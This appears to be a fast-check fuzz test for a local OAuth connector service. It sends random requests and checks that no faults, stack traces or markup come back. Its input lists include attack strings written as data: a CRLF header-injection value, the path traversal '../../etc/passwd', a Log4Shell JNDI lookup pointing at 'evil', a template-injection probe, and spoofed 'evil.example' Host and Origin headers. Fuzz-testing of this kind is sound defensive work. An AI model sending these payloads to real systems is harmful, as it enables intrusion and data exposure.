import fc from 'fast-check';
import { ROUTES, type TokenAnswer } from '../../contract/api.ts';
import { expectHarmless, MARKUP } from './hostile-row.ts';
import { createOAuthClient, type OAuthClient } from './oauth-client.ts';
import { START_MS, startProduct, type Product } from './product.ts';
import { send, type RawRequest } from './raw-http.ts';
import { storedConnections, type StoredItem } from './stored.ts';

let product: Product;
let client: OAuthClient;
let tokens: TokenAnswer;
let before: StoredItem[];
beforeAll(async () => {
  product = await startProduct();
  client = createOAuthClient(product.stack);
  tokens = await client.connect();
  await client.api(tokens.access_token);
  before = await storedConnections(product.stack);
}, START_MS);
afterAll(() => product.close());

const RUNS = 300;
const FORM = 'application/x-www-form-urlencoded';
const PARAMETERS = [
  ...['client_id', 'client_secret', 'redirect_uri', 'response_type', 'state', 'scope', 'code'],
  ...['code_challenge', 'code_challenge_method', 'code_verifier', 'grant_type', 'refresh_token'],
  ...['token', 'token_type_hint', 'error', 'error_description', 'access_token', 'fields'],
  ...['max_count', 'limit', 'cursor', '__proto__', 'constructor', 'x'],
];
/** Values that lead further into the code than noise does. */
const KNOWN = [
  ...['code', 'S256', 'authorization_code', 'refresh_token', 'looker-studio-connector', 'open_id'],
  ...['https://script.google.com/macros/d/local-looker-studio-stand-in/usercallback', '1', '1000'],
  ...['', MARKUP, '\r\nX-Evil: 1', '\0', '../../etc/passwd', '${jndi:ldap://evil}', '{{7*7}}'],
];

/** Bytes as they stand in a URL or a form, UTF-8 or not. */
const escapedBytes = fc
  .uint8Array({ maxLength: 60 })
  .map((bytes) => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''));
const value = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...KNOWN).map(encodeURIComponent) },
  { weight: 3, arbitrary: escapedBytes },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map(wellFormed) },
  { weight: 1, arbitrary: fc.integer({ min: 100, max: 6000 }).map((length) => 'a'.repeat(length)) },
  { weight: 1, arbitrary: fc.constantFrom('%', '%zz', '=', ';', '+', '%%%', '&&&') },
);
const parameters = fc
  .array(fc.tuple(fc.constantFrom(...PARAMETERS), value), { maxLength: 12 })
  .map((pairs) => pairs.map(([name, text]) => `${name}=${text}`).join('&'));
const body = fc.option(
  fc.oneof(
    parameters,
    fc.json(),
    fc.uint8Array({ maxLength: 2000, size: 'max' }),
    fc.integer({ min: 16_000, max: 200_000 }).map((length) => 'a=1&'.repeat(length / 4)),
  ),
  { nil: undefined },
);
const headers = fc
  .array(
    fc.constantFrom<[string, string]>(
      ['Content-Type', FORM],
      ['Content-Type', 'application/json'],
      ['Content-Type', MARKUP],
      ['Accept', 'text/html'],
      ['Authorization', 'Basic eDp5'],
      ['Authorization', `Bearer ${MARKUP}`],
      ['Authorization', 'Bearer {live}'],
      ['Cookie', `__Host-signin-${'a'.repeat(12)}=x; ;=`],
      ['Host', 'evil.example'],
      ['Origin', 'https://evil.example'],
      ['TikTok-Signature', `t=1,s=${'0'.repeat(64)}`],
      ['X-HTTP-Method-Override', 'POST'],
      ['X-HTTP-Method-Override', MARKUP],
      ['X-Forwarded-For', MARKUP],
      ['User-Agent', MARKUP],
    ),
    { maxLength: 5 },
  )
  .map((pairs) => pairs.flat());
const path = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...Object.values(ROUTES).map((route) => route.path)) },
  { weight: 1, arbitrary: escapedBytes.map((bytes) => `/${bytes}`) },
);
/** A request as it is drawn: fast-check says a missing body by `undefined`. */
interface DrawnRequest extends Omit<RawRequest, 'body'> {
  body: RawRequest['body'] | undefined;
}
const request: fc.Arbitrary<DrawnRequest> = fc.record({
  method: fc.constantFrom('GET', 'GET', 'GET', 'POST', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'),
  path: fc.tuple(path, parameters).map(([address, query]) => `${address}?${query}`),
  headers,
  body,
});

function wellFormed(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}

test(`${RUNS} random requests to every route: no fault, no stack trace, no markup comes back`, async () => {
  const statuses = new Map<number, number>();
  const hostile = fc.asyncProperty(request, async (asked) => {
    const lines = (asked.headers ?? []).map((text) => text.replace('{live}', tokens.access_token));
    const answer = await send(
      product.stack.baseUrl,
      withoutUndefined({ ...asked, headers: lines }),
    );
    statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
    expectHarmless(answer);
  });
  await fc.assert(hostile, { numRuns: RUNS });
  // Noise alone would be refused at the door: these prove that it came further.
  expect([...statuses.keys()]).toEqual(expect.arrayContaining([200, 400, 401, 405]));
}, 60_000);

test('after all of this the connection of before is as it was and reads data', async () => {
  expect(await storedConnections(product.stack)).toEqual(before);
  expect((await client.api(tokens.access_token)).status).toBe(200);
});

function withoutUndefined({ body: given, ...rest }: DrawnRequest): RawRequest {
  return given === undefined ? rest : { ...rest, body: given };
}
